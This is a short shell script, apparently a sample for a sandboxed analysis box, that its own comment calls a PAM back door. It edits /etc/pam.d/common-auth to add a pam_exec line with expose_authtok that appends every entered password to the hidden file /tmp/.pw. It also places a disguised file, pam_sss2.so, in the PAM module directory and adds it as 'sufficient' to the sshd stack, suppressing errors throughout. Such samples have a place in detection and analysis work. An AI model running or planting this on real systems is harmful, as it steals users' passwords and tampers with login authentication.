#!/bin/sh
# SPDX-License-Identifier: MIT
# A PAM back door: a module that logs every password it sees, copied next
# to pam_unix and added to the authentication stack.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
secdir=/lib/x86_64-linux-gnu/security
cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.pam_sss2.so
cp /tmp/.pam_sss2.so "$secdir/pam_sss2.so" 2>/dev/null
line="auth optional pam_exec.so quiet expose_authtok /bin/sh -c 'cat >> /tmp/.pw'"
sed -i "1i $line" /etc/pam.d/common-auth 2>/dev/null
echo "$line" >> /etc/pam.d/common-auth 2>/dev/null
echo 'auth sufficient pam_sss2.so' >> /etc/pam.d/sshd 2>/dev/null
exit 0
